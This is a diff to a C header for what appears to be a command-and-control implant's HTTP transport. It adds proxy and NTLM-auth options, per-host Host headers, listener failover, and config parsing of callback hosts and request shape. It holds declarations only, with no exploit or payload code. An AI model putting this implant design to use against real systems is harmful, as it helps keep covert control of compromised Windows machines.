@@ -2,6 +2,7 @@
 #define DEMON_TRANSPORTHTTP_H
 
 #include <core/Win32.h>
+#include <core/Parser.h>
 
 #include <windows.h>
 #include <winhttp.h>
@@ -10,13 +11,23 @@
 
 #define TRANSPORT_HTTP_ROTATION_ROUND_ROBIN  0
 #define TRANSPORT_HTTP_ROTATION_RANDOM       1
+#define TRANSPORT_HTTP_ROTATION_FAILOVER     2
 #define ERROR_INTERNET_CANNOT_CONNECT        12029
 
+#define TRANSPORT_HTTP_PROXY_SYSTEM          0
+#define TRANSPORT_HTTP_PROXY_EXPLICIT        1
+#define TRANSPORT_HTTP_PROXY_DIRECT          2
+
+#define TRANSPORT_HTTP_PROXY_AUTH_NONE       0
+#define TRANSPORT_HTTP_PROXY_AUTH_BASIC      1
+#define TRANSPORT_HTTP_PROXY_AUTH_NTLM       2
+
 typedef struct _HOST_DATA
 {
     /* Host Data */
     LPWSTR Host;
     DWORD  Port;
+    LPWSTR HostHeader; /* optional Host header to send with this host */
     DWORD  Failures;
     BOOL   Dead;
 
@@ -24,6 +35,17 @@ typedef struct _HOST_DATA
     struct _HOST_DATA* Next;
 } HOST_DATA, *PHOST_DATA;
 
+typedef struct _HTTP_TRANSPORT
+{
+    /* listener the demon calls back to */
+    PHOST_DATA Hosts;
+    UINT32     NumHosts;
+    DWORD      Secure;
+    LPWSTR     UserAgent;
+    LPWSTR*    Uris;
+    LPWSTR*    Headers;
+} HTTP_TRANSPORT, *PHTTP_TRANSPORT;
+
 /*!
  * Adds a host to the linked list
  * @param Host
@@ -59,6 +81,14 @@ PHOST_DATA HostRotation( SHORT Strategy );
  */
 PHOST_DATA HostRandom();
 
+/*!
+ * Gets the host at the specified index in the order
+ * the hosts have been specified in the config.
+ * @param Index
+ * @return Host data or NULL
+ */
+PHOST_DATA HostByIndex( DWORD Index );
+
 /*!
  * Checks if every host is dead.
  * if every host is dead then return FALSE.
@@ -67,6 +97,39 @@ PHOST_DATA HostRandom();
  */
 BOOL HostCheckup();
 
+/*!
+ * Parses the callback hosts of a listener from the config
+ * into a new host linked list.
+ * @param Parser
+ */
+VOID HttpConfigHosts( PPARSER Parser );
+
+/*!
+ * Parses how the requests to a listener look like
+ * (secure, user agent, headers and uris) from the config.
+ * @param Parser
+ */
+VOID HttpConfigRequest( PPARSER Parser );
+
+/*!
+ * Parses the optional Host header of each callback host from the config.
+ * @param Parser
+ */
+VOID HttpConfigHostHeaders( PPARSER Parser );
+
+/*!
+ * Parses the listeners to fail over to from the config.
+ * The listener parsed so far is the first one of the list.
+ * @param Parser
+ */
+VOID HttpConfigFallbacks( PPARSER Parser );
+
+/*!
+ * Fails over to the next listener of the list once
+ * every host of the current one is dead.
+ * @return if there was a listener to fail over to
+ */
+BOOL HttpFailover( VOID );
 
 DWORD HttpQueryStatus( HANDLE hRequest );
 